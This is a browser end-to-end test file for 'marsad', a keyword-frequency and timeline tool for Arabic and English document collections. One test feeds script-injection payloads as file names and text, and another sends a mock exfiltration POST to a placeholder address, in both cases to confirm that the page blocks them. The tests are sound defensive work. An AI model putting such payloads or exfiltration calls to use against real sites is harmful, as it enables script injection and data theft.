// The page end to end in real Chromium: files in through the picker, drag and drop and the
// sample button; keyword table, timeline and document list out; nothing sent anywhere.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFile, mkdtemp, readdir, utimes } from 'node:fs/promises';
import { existsSync, readFileSync } from 'node:fs';

import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { root } from '../../scripts/build.mjs';
import { openPage, startBrowser, waitLoaded } from './harness.mjs';
import { zip } from '../js/zip.mjs';
import { DAY_JSON } from '../js/fixtures.mjs';

const FIXTURES = join(root, 'tests', 'fixtures', 'corpus');
const MARSAD = join(root, 'target', 'release', 'marsad');
let browser;
let files;

before(async () => {
  browser = await startBrowser();
  // A copy whose undated note carries a known modification time, as a user's file would.
  const dir = await mkdtemp(join(tmpdir(), 'marsad-fixtures-'));
  files = [];
  for (const name of (await readdir(FIXTURES)).sort()) {
    await copyFile(join(FIXTURES, name), join(dir, name));
    files.push(join(dir, name));
  }
  const noon = new Date(2021, 4, 3, 12, 0, 0);
  await utimes(join(dir, 'notes-undated.txt'), noon, noon);
});

after(async () => {
  await browser?.close();
});

const rows = (page, table) =>
  page.$$eval(`${table} tbody tr`, (trs) => trs.map((tr) => [...tr.cells].map((td) => td.textContent.trim())));

async function loadFixtures() {
  const { page, problems } = await openPage(browser);
  await page.setInputFiles('#file-input', files);
  await waitLoaded(page);
  return { page, problems };
}

test('fixtures through the file picker give the hand-counted keywords, timeline and dates', async () => {
  const { page, problems } = await loadFixtures();
  assert.equal(await page.textContent('#status'), 'Loaded 5 of 6 files, 1 could not be read (listed below).');
  assert.match(await page.textContent('#errors'), /^broken\.txt: not a text file: binary data/);

  const keywords = await rows(page, '#keyword-table');
  const [rank, term, count, docs, forms] = keywords[0];
  assert.deepEqual([rank, term, count, docs], ['1', 'الموصل', '12', '4']);
  for (const form of ['الموصل ×9', 'بالموصل ×1', 'للموصل ×1', 'والموصل ×1']) assert.ok(forms.includes(form.replace(' ', '\u00a0')), forms);
  assert.ok(!keywords.some(([, t]) => ['في', 'the', 'of'].includes(t)), 'stopwords are left out');

  // The term defaults to the top keyword; 2 March to 3 May is 62 days, so daily buckets.
  await page.waitForSelector('#chart[data-points="63"]');
  assert.equal(await page.getAttribute('#chart', 'data-bucket'), 'day');
  await page.selectOption('#bucket-select', 'month');
  await page.waitForSelector('#chart[data-points="3"]');
  assert.deepEqual(await rows(page, '#timeline-table'), [
    ['2021-03-01', '9', '2', '2'],
    ['2021-04-01', '2', '2', '1'],
    ['2021-05-01', '1', '1', '1'],
  ]);
  const canvas = await page.$eval('#chart canvas', (c) => [c.width, c.height]);
  assert.ok(canvas[0] > 0 && canvas[1] > 0, `chart canvas ${canvas}`);

  const documents = await rows(page, '#document-table');
  const byName = Object.fromEntries(documents.map((r) => [r[0], r]));
  assert.deepEqual(byName['2021-04-20-report-cp1256.txt'].slice(1, 5), ['2021-04-20', 'file name', '21', 'windows-1256']);
  assert.deepEqual(byName['notes-undated.txt'].slice(1, 3), ['2021-05-03', 'last modified (less reliable)']);
  assert.equal(await page.textContent('#dating'), 'Dates: 4 from file names, 1 from last-modified times (less reliable).');

  assert.deepEqual(problems, []);
  assert.deepEqual(browser.foreignRequests(), []);
  await page.close();
});

test('the keyword table in the browser equals the native CLI on the same files', async () => {
  assert.ok(existsSync(MARSAD), `${MARSAD} is missing: npm test builds it with cargo build --release`);
  const cli = spawnSync(MARSAD, ['freq', '--json', '--limit', '50', ...files], { encoding: 'utf8' });
  // Exit 1: the broken file is reported on stderr and the other five are counted.
  assert.equal(cli.status, 1, cli.stderr);
  assert.match(cli.stderr, /broken\.txt: not a text file/);
  const native = JSON.parse(cli.stdout);
  const { page } = await loadFixtures();
  const shown = (await rows(page, '#keyword-table')).map(([, term, count, docs]) => [term, Number(count), Number(docs)]);
  assert.equal(shown.length, native.length);
  assert.deepEqual(shown, native.map((k) => [k.display, k.count, k.docs]));
  await page.close();
});

test('choosing a keyword draws its timeline', async () => {
  const { page } = await loadFixtures();
  await page.click('#keyword-table button.term >> text=Mosul');
  assert.equal(await page.inputValue('#term-input'), 'Mosul');
  await page.waitForFunction(() => document.querySelector('#chart .u-title')?.textContent.includes('Mosul'));
  const counts = (await rows(page, '#timeline-table')).map((r) => Number(r[1]));
  assert.equal(counts.reduce((a, b) => a + b, 0), 4);
  await page.fill('#term-input', 'تنظيم الدولة');
  await page.click('#timeline-form button[type=submit]');
  await page.waitForFunction(() => document.querySelector('#timeline-error').textContent.includes('stand side by side'));
  assert.match(await page.textContent('#timeline-error'), /write "تنظيم الدولة" for the phrase/);
  await page.close();
});

test('files dropped on the page are loaded', async () => {
  const { page, problems } = await openPage(browser);
  await page.evaluate(() => {
    const transfer = new DataTransfer();
    transfer.items.add(new File(['داعش يخسر الموصل. وداعش ينسحب من الموصل'], '2017-07-10-a.txt', { type: 'text/plain' }));
    transfer.items.add(new File(['Mosul falls. ISIS loses Mosul.'], '2017-07-11-b.txt', { type: 'text/plain' }));
    transfer.items.add(new File(['%PDF-1.7'], 'scan.pdf', { type: 'application/pdf' }));
    document.querySelector('#drop-zone').dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
  });
  await waitLoaded(page);
  assert.equal(await page.textContent('#status'), 'Loaded 2 of 3 files, 1 could not be read (listed below).');
  assert.match(await page.textContent('#errors'), /scan\.pdf: not read: a PDF document: not supported; save it as text or as a Word \(\.docx\) file first/);
  const top = (await rows(page, '#keyword-table')).slice(0, 3);
  // Equal counts are ordered by key, Latin before Arabic; «وداعش» counts as «داعش», the key shown first.
  assert.deepEqual(top.map((r) => r.slice(1, 3)), [['Mosul', '2'], ['داعش', '2'], ['الموصل', '2']]);
  assert.equal(top[1][4], 'داعش ← داعش\u00a0×1، وداعش\u00a0×1');
  assert.deepEqual(problems, []);
  await page.close();
});

test('an archive of JSON articles, a web page and a CSV load, with every unreadable part listed', async () => {
  const { page, problems } = await openPage(browser);
  const formats = join(root, 'tests', 'fixtures', 'formats');
  const now = new Date();
  const modified = `${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, '0')}-${String(now.getDate()).padStart(2, '0')}`;
  await page.setInputFiles('#file-input', [
    { name: 'news.zip', mimeType: 'application/zip', buffer: Buffer.from(zip([['2017/day.json', DAY_JSON], ['2017/day2.json', '{"content": "unterminated']])) },
    { name: 'article.html', mimeType: 'text/html', buffer: readFileSync(join(formats, 'article.html')) },
    { name: 'articles.csv', mimeType: 'text/csv', buffer: readFileSync(join(formats, 'articles.csv')) },
  ]);
  await waitLoaded(page);
  // 2 articles from the archive, 1 page, 3 rows; the number and the broken file inside the
  // archive are errors, the article and the row without text are skipped.
  assert.equal(await page.textContent('#status'), 'Loaded 3 of 3 files (6 documents), 2 could not be read (listed below), 2 without text skipped.');
  const errors = await page.$$eval('#errors li', (lis) => lis.map((li) => li.textContent));
  assert.deepEqual(errors.map((e) => e.replace(/ at line.*/, '')), [
    'news.zip › 2017/day.json › #3: a number, not an article object',
    'news.zip › 2017/day2.json: invalid JSON: EOF while parsing a string',
  ]);
  const documents = await rows(page, '#document-table');
  assert.deepEqual(documents.map((r) => r.slice(0, 3)), [
    ['news.zip › 2017/day.json › #1', '2017-07-10', 'date field'],
    ['news.zip › 2017/day.json › #2', '2017-07-11', 'date field'],
    ['article.html', '2017-07-10', 'web page metadata'],
    ['articles.csv › line 2', '2017-07-10', 'date field'],
    ['articles.csv › line 4', '2017-07-11', 'date field'],
    // No date column value: the CSV file's own modification time, flagged.
    ['articles.csv › line 8', modified, 'last modified (less reliable)'],
  ]);
  // «الموصل»: once in the first article, twice in the page (its headline and its text).
  const keywords = Object.fromEntries((await rows(page, '#keyword-table')).map((r) => [r[1], r.slice(2, 4)]));
  assert.deepEqual([keywords['الموصل'], keywords.Mosul], [['3', '2'], ['1', '1']]);
  assert.equal(await page.textContent('#dating'), 'Dates: 4 from date fields, 1 from web page metadata, 1 from last-modified times (less reliable).');
  assert.deepEqual(problems, []);
  await page.close();
});

test('the sample corpus is one click away', async () => {
  const { page, problems } = await openPage(browser);
  await page.click('#sample-button');
  await waitLoaded(page);
  assert.equal(await page.textContent('#status'), 'Loaded 10 of 10 files.');
  const [first] = await rows(page, '#keyword-table');
  assert.equal(first[1], 'السد');
  // 12 January to 22 June 2023: monthly buckets, January to June.
  await page.waitForSelector('#chart[data-points="6"]');
  assert.deepEqual(problems, []);
  assert.deepEqual(browser.foreignRequests(), []);
  await page.close();
});

test('document text and file names are shown as text, never run as HTML', async () => {
  const { page, problems } = await openPage(browser);
  const hostile = '<img src=x onerror="window.__pwned=1">';
  await page.setInputFiles('#file-input', [
    { name: `${hostile}.txt`, mimeType: 'text/plain', buffer: Buffer.from('<script>window.__pwned=2</script> <b onclick=x>bold</b>') },
    { name: `${hostile}.png`, mimeType: 'image/png', buffer: Buffer.from('x') },
  ]);
  await waitLoaded(page);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(await page.$$eval('main img, main script, main b', (n) => n.length), 0);
  assert.ok((await page.textContent('#document-table')).includes(hostile));
  assert.ok((await page.textContent('#errors')).includes(hostile));
  assert.ok((await rows(page, '#keyword-table')).some(([, term]) => term === 'script'));
  assert.deepEqual(problems, []);
  await page.close();
});

test('the Content-Security-Policy blocks connections to any other origin', async () => {
  const { page } = await openPage(browser);
  const result = await page.evaluate(async () => {
    const violation = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }));
    const fetched = await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
    return { fetched, directive: await violation };
  });
  assert.deepEqual(result, { fetched: 'blocked', directive: 'connect-src' });
  assert.ok(!browser.requests.some((u) => u.includes('192.0.2.1')), 'the blocked request never left');
  await page.close();
});

test('the drawn chart can be downloaded for the web, with a snippet to embed it', async () => {
  const { page } = await loadFixtures();
  await page.selectOption('#bucket-select', 'month');
  await page.waitForSelector('#chart[data-points="3"]');
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-analysis')]);
  assert.equal(download.suggestedFilename(), 'marsad-موصل.json');
  const analysis = JSON.parse(readFileSync(await download.path(), 'utf8'));
  assert.equal(analysis.marsad, 1);
  assert.equal(analysis.bucket, 'month');
  assert.deepEqual(analysis.series[0].points.map((p) => [p.start, p.count, p.docs]), [
    ['2021-03-01', 9, 2],
    ['2021-04-01', 2, 2],
    ['2021-05-01', 1, 1],
  ]);
  assert.ok(!JSON.stringify(analysis).includes('معركة'), 'no document text in the analysis');
  // How the numbers were counted, and the corpus they were counted in.
  assert.deepEqual(analysis.settings.queries, [analysis.series[0].term]);
  assert.equal(analysis.settings.bucket, 'month');
  assert.equal(analysis.settings.measure, 'count');
  assert.ok(analysis.settings.normalisation.includes('foldAlef'));
  assert.equal(analysis.settings.countDuplicatesOnce, false);
  assert.equal(analysis.corpus.documents, await page.$$eval('#document-table tbody tr', (trs) => trs.length));
  assert.ok(analysis.corpus.tokens > 0);
  assert.equal(analysis.corpus.dated + analysis.corpus.undated, analysis.corpus.documents);
  assert.equal(Object.values(analysis.corpus.dateSources).reduce((a, b) => a + b, 0), analysis.corpus.documents);
  assert.equal(analysis.contexts, undefined);
  // Asked for, the lines behind the series come too: every match, dated or not.
  await page.check('#export-contexts');
  const [withLines] = await Promise.all([page.waitForEvent('download'), page.click('#export-analysis')]);
  const full = JSON.parse(readFileSync(await withLines.path(), 'utf8'));
  const [lines] = full.contexts;
  assert.equal(lines.query, analysis.series[0].term);
  assert.equal(lines.total, 12 + analysis.series[0].undatedCount);
  assert.equal(lines.lines.length, lines.total);
  assert.ok(lines.lines.every((l) => l.document && l.hit && typeof l.left === 'string'));
  assert.ok(lines.lines.some((l) => l.date === '2021-05-01' || l.date?.startsWith('2021-05')));
  const snippet = await page.inputValue('#embed-snippet');
  assert.match(snippet, /<marsad-timeline src="marsad-موصل\.json" lang="en" height="300"><\/marsad-timeline>/);
  await page.close();
});

test('loading the same files twice is refused per file, and «Start over» empties the corpus', async () => {
  const { page, problems } = await openPage(browser);
  await page.click('#sample-button');
  await waitLoaded(page);
  const [first] = await rows(page, '#keyword-table');
  await page.click('#sample-button');
  await page.waitForFunction(() => document.querySelector('#status').textContent.startsWith('Loaded 0 of 10'));
  assert.match(await page.textContent('#errors'), /already loaded/);
  assert.deepEqual((await rows(page, '#keyword-table'))[0], first, 'counts did not double');
  await page.click('#clear-button');
  await page.waitForFunction(() => document.querySelector('#status').textContent === 'All documents were removed.');
  assert.equal(await page.isHidden('#keywords'), true);
  await page.click('#sample-button');
  await waitLoaded(page);
  assert.equal(await page.textContent('#status'), 'Loaded 10 of 10 files.');
  assert.deepEqual((await rows(page, '#keyword-table'))[0], first);
  assert.deepEqual(problems, []);
  await page.close();
});
